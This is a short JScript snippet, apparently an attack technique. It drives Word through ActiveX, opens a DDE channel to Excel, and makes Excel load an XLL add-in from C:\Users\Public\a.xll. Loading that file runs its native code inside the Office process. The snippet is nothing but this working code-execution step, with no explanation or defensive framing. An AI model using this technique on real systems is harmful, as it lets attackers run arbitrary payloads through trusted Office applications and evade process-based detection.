var word = new ActiveXObject("Word.Application");
var channel = word.DDEInitiate("Excel", "System");
word.DDEExecute(channel, '[OPEN("C:\\Users\\Public\\a.xll")]');
